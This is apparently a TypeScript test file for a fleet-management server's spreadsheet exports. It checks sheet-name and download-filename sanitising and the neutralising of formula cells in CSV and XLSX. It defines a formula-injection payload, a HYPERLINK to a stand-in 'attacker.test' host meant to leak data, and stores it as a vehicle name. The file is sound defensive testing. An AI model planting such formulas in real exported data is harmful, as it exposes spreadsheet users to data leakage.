// The files the server writes for spreadsheets, attacked from outside: a report's name Excel would
// refuse as a sheet name (`/`, `:`, `[ ]`), a download name no file system takes as it is, and a
// vehicle named like a formula. Every route that answers CSV or XLSX is listed here; a new one
// fails the first test until its export is tested too.
import { sheetNameOf } from '@fleetlens/contracts';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { startHarness } from '../../testing/harness.ts';
import { perFile } from '../../testing/perFile.ts';

const h = perFile(startHarness);
const FORMULA = '=HYPERLINK("http://attacker.test/?leak","open")';

/**
 * The server's routes that answer a spreadsheet (CSV or XLSX), as the OpenAPI document names them.
 * A managerial download's file is written by the download job, whose formula cells its own test
 * attacks (modules/downloads/downloads.test.ts); a data migration's reports of bad lines (of an
 * import, of a past data transfer) echo the uploaded file's cells, attacked in
 * modules/migrations/migrations.test.ts and transfers.test.ts.
 */
const SPREADSHEET_ROUTES = [
  'GET /api/v1/reports/{id}/export/{format}',
  'GET /api/v1/download-requests/{id}/file',
  'GET /api/v1/migration-imports/{id}/issues',
  'GET /api/v1/migration-transfers/{id}/issues',
];
const SPREADSHEET_TYPES = /text\/csv|spreadsheetml/;
/** Routes that hand back a file as it was uploaded (a CSV among the files): the server writes no cell. */
const AS_UPLOADED = ['GET /api/v1/files/{id}/content'];
/**
 * A list's export (`GET <list>/export`) is one route shape every exported list gets, written by one
 * function whose formula cells, tenancy and rights platform/listExports.test.ts attacks.
 */
const LIST_EXPORT = /^GET \/api\/v1\/\S+\/export$/;

let made: Promise<{ vehicle: string }> | undefined;
const fleet = () => {
  made ??= h.companyId('harbor').then(async (harbor) => ({ vehicle: await h.addVehicle(harbor, FORMULA) }));
  return made;
};
/** A report over the formula-named vehicle, this week (relative to the clock: any date works). */
const report = async (name: string) => {
  const { vehicle } = await fleet();
  const created = await h.as('manager').post('/reports', {
    name,
    template: 'distancePerVehicle',
    period: 'thisWeek',
    vehicle_ids: [vehicle],
  });
  expect(created.status).toBe(201);
  return created.body.data.id as string;
};

/** The workbook's sheet name and every cell's text, read back from the XLSX zip. */
function readWorkbook(bytes: Buffer) {
  const files = unzipSync(new Uint8Array(bytes));
  const text = (path: string) => new TextDecoder().decode(files[path] ?? new Uint8Array());
  const fromXml = (s: string) =>
    s.replace(
      /&(quot|amp|lt|gt|apos);/g,
      (_, e: string) => ({ quot: '"', amp: '&', lt: '<', gt: '>', apos: "'" })[e] ?? e,
    );
  const strings = [...text('xl/sharedStrings.xml').matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) =>
    fromXml(m[1] ?? ''),
  );
  const sheet = /<sheet [^>]*name="([^"]*)"/.exec(text('xl/workbook.xml'))?.[1];
  const rows = [...text('xl/worksheets/sheet1.xml').matchAll(/<row /g)].length;
  return { sheet: sheet === undefined ? undefined : fromXml(sheet), strings, rows };
}

describe('spreadsheet exports', () => {
  it('are the routes listed here, and no other', async () => {
    type Operation = { responses?: Record<string, { content?: Record<string, unknown> }> };
    const doc = (await h.app.inject('/api/docs/json')).json() as {
      paths: Record<string, Record<string, Operation>>;
    };
    // What a route answers, not what its path is called: an upload named csv answers JSON.
    const exporting = Object.entries(doc.paths).flatMap(([path, verbs]) =>
      Object.entries(verbs)
        .filter(([, operation]) =>
          Object.values(operation.responses ?? {}).some((answer) =>
            Object.keys(answer.content ?? {}).some((type) => SPREADSHEET_TYPES.test(type)),
          ),
        )
        .map(([verb]) => `${verb.toUpperCase()} ${path}`)
        .filter((route) => !AS_UPLOADED.includes(route) && !LIST_EXPORT.test(route)),
    );
    expect(exporting.sort()).toEqual([...SPREADSHEET_ROUTES].sort());
  });

  it('export a report named with the characters Excel refuses in a sheet name as a readable XLSX', async () => {
    for (const name of ['Fleet 2026/12', 'Report: Q4', 'Weekly [north]', `'${'Long'.repeat(10)}`]) {
      const id = await report(name);
      const xlsx = await h.as('manager').get(`/reports/${id}/export/xlsx`);
      expect(xlsx.status, name).toBe(200);
      const book = readWorkbook(xlsx.raw);
      expect(book.sheet).toBe(sheetNameOf(name));
      expect(book.rows).toBe(2);
      expect(book.strings).toContain(`'${FORMULA}`);
    }
  });

  it('name the download safely: an ASCII fallback, and the name itself as UTF-8', async () => {
    const plain = await h.as('manager').get(`/reports/${await report('Report: Q4')}/export/csv`);
    expect(plain.headers['content-disposition']).toBe('attachment; filename="Report_ Q4.csv"');
    const id = await report('週報 2026/12');
    const japanese = await h.as('manager').get(`/reports/${id}/export/xlsx`);
    const disposition = String(japanese.headers['content-disposition']);
    expect(disposition).toBe(
      `attachment; filename="__ 2026_12.xlsx"; filename*=UTF-8''${encodeURIComponent('週報 2026_12.xlsx')}`,
    );
  });

  it('neutralise a cell that a spreadsheet would run as a formula, in CSV and XLSX', async () => {
    const id = await report('Formula check');
    const csv = await h.as('manager').get(`/reports/${id}/export/csv`);
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://attacker.test/?leak"",""open"")"`);
    // No field of any line starts a formula (quoted or not).
    expect(csv.text.replace(/^\ufeff/, '')).not.toMatch(/(^|[,\n])"?[=+\-@\t\r]/m);
    const xlsx = await h.as('manager').get(`/reports/${id}/export/xlsx`);
    const { strings } = readWorkbook(xlsx.raw);
    expect(strings).toContain(`'${FORMULA}`);
    expect(strings.filter((s) => /^[=+\-@\t\r]/.test(s))).toEqual([]);
  });
});
